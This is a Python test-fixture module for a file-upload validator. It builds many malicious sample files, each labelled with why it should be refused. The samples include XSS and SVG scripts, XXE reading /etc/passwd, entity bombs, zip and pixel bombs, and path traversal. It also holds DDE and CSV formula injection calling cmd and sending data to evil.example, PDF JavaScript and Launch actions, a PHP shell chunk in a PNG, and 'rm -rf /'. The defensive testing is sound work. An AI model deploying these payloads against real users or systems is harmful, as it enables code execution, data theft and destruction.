"""Files that somebody might try to have others open: by name, each of them to be refused, and for which reason."""

import zipfile
from io import BytesIO
from struct import pack
from zlib import compress

from app.core.uploads.kinds import Code
from tests.support.uploads import (
    CSV,
    OFFICE,
    W,
    chunk,
    docx,
    jpeg,
    pdf,
    png,
    pptx,
    relations,
    segment,
    stream,
    xlsx,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXE = b"MZ\x90\x00" + b"\0" * 200
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
DTD = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_EXCEL = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
RELS_OF_DOCUMENT = "word/_rels/document.xml.rels"


def _outside(kind: str, target: str) -> bytes:
    return docx(parts={RELS_OF_DOCUMENT: relations(("rId9", f"{OFFICE}/{kind}", target, True))})


def _zip(names: dict[str, bytes], comment: bytes = b"") -> bytes:
    held = BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in names.items():
            archive.writestr(name, content)
        archive.comment = comment
    return held.getvalue()


def _patched(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    assert len(old) == len(new)
    return content.replace(old, new)


def _encrypted_member() -> bytes:
    made = bytearray(docx())
    at = -1
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        while (at := made.find(signature, at + 1)) >= 0:
            made[at + flags] |= 1
        at = -1
    return bytes(made)


def _lying_size() -> bytes:
    """The directory says ten bytes; there are many megabytes."""
    made = bytearray(docx(parts={"word/media/image1.bmp": b"A" * 30_000_000}))
    at = made.rfind(b"PK\x01\x02", 0, made.rfind(b"word/media/image1.bmp"))
    made[at + 24 : at + 28] = pack("<I", 10)
    return bytes(made)


def _duplicate() -> bytes:
    held = BytesIO(docx())
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return held.getvalue()


def _gap() -> bytes:
    """A web page between two members: the directory moves by its length."""
    made = docx()
    start = made.rfind(b"PK\x01\x02", 0, made.find(b"PK\x01\x02") + 1)
    moved = bytearray(made[:start] + HTML + made[start:])
    end = moved.rfind(b"PK\x05\x06")
    moved[end + 16 : end + 20] = pack("<I", start + len(HTML))
    return bytes(moved)


def _traversal(name: str) -> bytes:
    held = BytesIO(docx())
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr(name, "<x/>")
    return held.getvalue()


def _entries() -> bytes:
    return docx(parts={f"word/media/i{n}.xml": b"" for n in range(5200)})


def _nested() -> bytes:
    inner = xlsx(parts={"xl/embeddings/again.xlsx": xlsx()})
    return docx(parts={"word/embeddings/sheet.xlsx": inner})


def _pdf_object_stream() -> bytes:
    """The script's action lies packed in an object stream, where no search of the bytes finds it."""
    action = b"<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = compress(b"150 0 " + action)
    head = b"%PDF-1.5\n"
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 150 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        100: stream(packed, "/Type/ObjStm/N 1/First 6/Filter/FlateDecode"),
    }
    out, rows = bytearray(head), {}
    for number, body in bodies.items():
        rows[number] = pack(">BIH", 1, len(out), 0)
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    at = len(out)
    rows |= {150: pack(">BIH", 2, 100, 0), 200: pack(">BIH", 1, at, 0)}
    index = " ".join(f"{number} 1" for number in rows)
    table = stream(b"".join(rows.values()), f"/Type/XRef/Size 201/W[1 4 2]/Index[{index}]/Root 1 0 R")
    return bytes(out + b"200 0 obj\n" + table + f"\nendobj\nstartxref\n{at}\n%%EOF\n".encode())


def _pdf_attached() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.add_attachment("run.exe", EXE)
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def _pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    held = BytesIO()
    writer.write(held)
    return held.getvalue()


def _action(kind: str, more: str = "") -> bytes:
    return pdf(catalog="/OpenAction 100 0 R", objects=(f"<</Type/Action/S/{kind}{more}>>",))


def _field(instruction: str) -> str:
    return f'<w:document xmlns:w="{W}"><w:p><w:instrText>{instruction}</w:instrText></w:p></w:document>'


def files() -> dict[str, tuple[bytes, Code]]:
    """{name: (content, why it is refused)}; the names differ, so that a test can say which one came through."""
    return _names() | _packages() | _relations() | _pdfs() | _pictures() | _texts()


def _names() -> dict[str, tuple[bytes, Code]]:
    return {
        "run.exe": (EXE, Code.ending),
        "page.html": (HTML, Code.ending),
        "drawing.svg": (SVG, Code.ending),
        "macro.docm": (docx(), Code.ending),
        "macro.xlsm": (xlsx(), Code.ending),
        "archive.zip": (_zip({"a.txt": b"a"}), Code.ending),
        "old.doc": (OLE, Code.ending),
        "script.js": (b"alert(1)", Code.ending),
        "audit.pdf.exe": (EXE, Code.ending),
        "no-ending": (b"text", Code.ending),
        "empty.pdf": (b"", Code.empty),
        "exe.pdf": (EXE, Code.content),
        "exe.docx": (EXE, Code.content),
        "html.pdf": (HTML, Code.content),
        "html.png": (HTML, Code.content),
        "html.jpg": (HTML, Code.content),
        "pdf.docx": (pdf(), Code.content),
        "docx.xlsx": (docx(), Code.content),
        "zip.docx": (_zip({"a.txt": b"a"}), Code.content),
        "old.docx": (OLE, Code.protected),
    }


def _packages() -> dict[str, tuple[bytes, Code]]:
    return {
        "macro-type.docx": (docx(main=MACRO_WORD), Code.macros),
        "macro-type.xlsx": (xlsx(main=MACRO_EXCEL), Code.macros),
        "vba.docx": (docx(parts={"word/vbaProject.bin": OLE}), Code.macros),
        "vba-case.xlsx": (xlsx(parts={"xl/VBAPROJECT.BIN": OLE}), Code.macros),
        "xlm.xlsx": (xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}), Code.macros),
        "activex.docx": (docx(parts={"word/activeX/activeX1.xml": "<x/>"}), Code.embedded),
        "ole.docx": (docx(parts={"word/embeddings/oleObject1.bin": OLE}), Code.embedded),
        "exe-inside.pptx": (pptx(parts={"ppt/embeddings/run.exe": EXE}), Code.embedded),
        "exe-as-picture.docx": (docx(parts={"word/media/image1.png": EXE}), Code.embedded),
        "ole-as-picture.docx": (docx(parts={"word/media/image1.emf": OLE}), Code.embedded),
        "html-inside.docx": (docx(parts={"word/afchunk.html": HTML}), Code.embedded),
        "nested.docx": (_nested(), Code.embedded),
        "macro-inside.docx": (
            docx(parts={"word/embeddings/a.xlsx": xlsx(parts={"xl/vbaProject.bin": OLE})}),
            Code.macros,
        ),
        "bomb.docx": (docx(parts={"word/media/image1.bmp": b"\0" * 120_000_000}), Code.unpacked),
        "ratio.xlsx": (xlsx(parts={"xl/styles.xml": "<x>" + " " * 5_000_000 + "</x>"}), Code.unpacked),
        "lying.docx": (_lying_size(), Code.damaged),
        "entries.docx": (_entries(), Code.unpacked),
        "duplicate.docx": (_duplicate(), Code.hidden),
        "gap.docx": (_gap(), Code.hidden),
        "comment.docx": (docx()[:-2] + pack("<H", len(HTML)) + HTML, Code.hidden),
        "appended.docx": (docx() + HTML, Code.hidden),
        "prepended.docx": (HTML + docx(), Code.content),
        "traversal.docx": (_traversal("../../etc/cron.xml"), Code.hidden),
        "absolute.docx": (_traversal("/etc/cron.xml"), Code.hidden),
        "locked.docx": (_encrypted_member(), Code.protected),
        "cut.docx": (docx()[:-200], Code.damaged),
        "laughs.docx": (docx(parts={"word/styles.xml": DTD + "<x>&b;</x>"}), Code.entities),
        "xxe.xlsx": (xlsx(parts={"xl/styles.xml": XXE}), Code.entities),
        "utf16.docx": (docx(parts={"word/styles.xml": XXE.encode("utf-16")}), Code.entities),
        "other-encoding.docx": (
            docx(parts={"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><x/>'}),
            Code.entities,
        ),
        "svg-inside.pptx": (pptx(parts={"ppt/media/image1.svg": SVG}), Code.external),
    }


def _relations() -> dict[str, tuple[bytes, Code]]:
    dde = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    formula = "<worksheet><sheetData><row><c><f>cmd|'/c calc'!A1</f></c></row></sheetData></worksheet>"
    return {
        "template.docx": (_outside("attachedTemplate", "https://evil.example/a.dotm"), Code.external),
        "ole-link.docx": (_outside("oleObject", "file:///c:/a.exe"), Code.embedded),
        "picture-link.docx": (_outside("image", "https://evil.example/track.png"), Code.external),
        "unc-link.docx": (_outside("hyperlink", "\\\\evil.example\\share"), Code.external),
        "script-link.docx": (_outside("hyperlink", "javascript:alert(1)"), Code.external),
        "file-link.docx": (_outside("hyperlink", "file:///c:/windows/system32/calc.exe"), Code.external),
        "frame.docx": (_outside("frame", "https://evil.example"), Code.embedded),
        "control.docx": (
            docx(parts={RELS_OF_DOCUMENT: relations(("rId9", f"{OFFICE}/control", "a.xml", False))}),
            Code.embedded,
        ),
        "dde.docx": (docx(parts={"word/footer1.xml": _field("DDEAUTO c:\\\\cmd.exe")}), Code.external),
        "dde-plain.docx": (docx(parts={"word/footer1.xml": _field(" DDE excel a b")}), Code.external),
        "dde.xlsx": (xlsx(parts={"xl/externalLinks/externalLink1.xml": dde}), Code.external),
        "dde-formula.xlsx": (xlsx(parts={"xl/worksheets/sheet2.xml": formula}), Code.external),
        "refresh.xlsx": (
            xlsx(parts={"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}),
            Code.external,
        ),
        "webservice.xlsx": (
            xlsx(parts={"xl/worksheets/sheet2.xml": "<f>_xlfn.WEBSERVICE(A1)</f>"}),
            Code.external,
        ),
        "program.pptx": (
            pptx(parts={"ppt/slides/slide2.xml": '<a action="ppaction://program"/>'}),
            Code.external,
        ),
        "rels-entities.docx": (docx(parts={RELS_OF_DOCUMENT: XXE}), Code.entities),
    }


def _pdfs() -> dict[str, tuple[bytes, Code]]:
    return {
        "javascript.pdf": (_action("JavaScript", "/JS(app.alert\\(1\\))"), Code.script),
        "escaped.pdf": (_action("J#61vaScript", "/J#53(app.alert\\(1\\))"), Code.script),
        "short.pdf": (pdf(catalog="/AA<</WC<</JS(1)>>>>"), Code.script),
        "launch.pdf": (_action("Launch", "/F(calc.exe)"), Code.script),
        "remote.pdf": (_action("GoToR", "/F(\\\\\\\\evil\\\\share)"), Code.script),
        "submit.pdf": (_action("SubmitForm", "/F(https://evil.example)"), Code.script),
        "xfa.pdf": (pdf(catalog="/AcroForm<</XFA 100 0 R>>", objects=(stream(b"<xdp/>"),)), Code.script),
        "rich.pdf": (pdf(objects=("<</Type/Annot/Subtype/RichMedia>>",)), Code.script),
        "packed-script.pdf": (_pdf_object_stream(), Code.script),
        "attached.pdf": (_pdf_attached(), Code.attachment),
        "file-note.pdf": (pdf(objects=("<</Type/Annot/Subtype/FileAttachment>>",)), Code.attachment),
        "password.pdf": (_pdf_encrypted(), Code.protected),
        "zip-behind.pdf": (pdf() + _zip({"a.js": b"1"}), Code.hidden),
        "zip-inside.pdf": (pdf() + _zip({"a.js": b"1"}, b"%%EOF"), Code.hidden),
        "html-behind.pdf": (pdf() + HTML, Code.hidden),
        "cut.pdf": (pdf()[:-40], Code.damaged),
        "header-only.pdf": (b"%PDF-1.7\n%%EOF\n", Code.damaged),
    }


def _pictures() -> dict[str, tuple[bytes, Code]]:
    return {
        "html-behind.png": (png() + HTML, Code.hidden),
        "zip-behind.png": (png() + _zip({"a.js": b"1"}), Code.hidden),
        "php-inside.png": (png(2, 2, chunk(b"tEXt", b"Comment\0<?php system(1);")), Code.hidden),
        "script-inside.png": (png(2, 2, chunk(b"iTXt", b"XML\0\0\0\0\0<script>1</script>")), Code.hidden),
        "sum.png": (_patched(png(), b"IEND\xae", b"IEND\xaf"), Code.damaged),
        "bomb.png": (png(60_000, 60_000), Code.pixels),
        "html-inside.jpg": (jpeg(segment(0xFE, HTML)), Code.hidden),
        "zip-behind.jpg": (jpeg() + _zip({"a.js": b"1"}), Code.hidden),
        "html-behind.jpg": (jpeg() + HTML, Code.hidden),
        "exe-behind.jpg": (jpeg() + EXE, Code.hidden),
        "bomb.jpg": (jpeg(width=65_000, height=65_000), Code.pixels),
        "cut.jpg": (jpeg()[:-2], Code.damaged),
    }


def _texts() -> dict[str, tuple[bytes, Code]]:
    return {
        "html.txt": (HTML, Code.markup),
        "html.csv": (b"a,b\n1,<script>alert(1)</script>\n", Code.markup),
        "svg.txt": (SVG, Code.markup),
        "xml.txt": (XXE.encode(), Code.markup),
        "marked-html.txt": (b"\xef\xbb\xbf  " + HTML, Code.markup),
        "utf16-html.txt": (HTML.decode().encode("utf-16"), Code.not_text),
        "binary.csv": (bytes(range(256)), Code.not_text),
        "exe.txt": (EXE, Code.content),
        "shell.txt": (b"#!/bin/sh\nrm -rf /\n", Code.content),
        "pdf.txt": (pdf(), Code.content),
        "command.csv": (CSV + b"=cmd|'/c calc'!A0,1,2\n", Code.formula),
        "web.csv": (CSV + b'"=WEBSERVICE(""https://evil.example"")",1\n', Code.formula),
        "plus.csv": (CSV + b"1,+cmd|'/c calc'!A0\n", Code.formula),
        "at.csv": (CSV + b"@SUM(1+1)*cmd|'/c calc'!A0\n", Code.formula),
        "link.csv": (CSV + b'a,=HYPERLINK("https://evil.example?x="&A1)\n', Code.formula),
    }
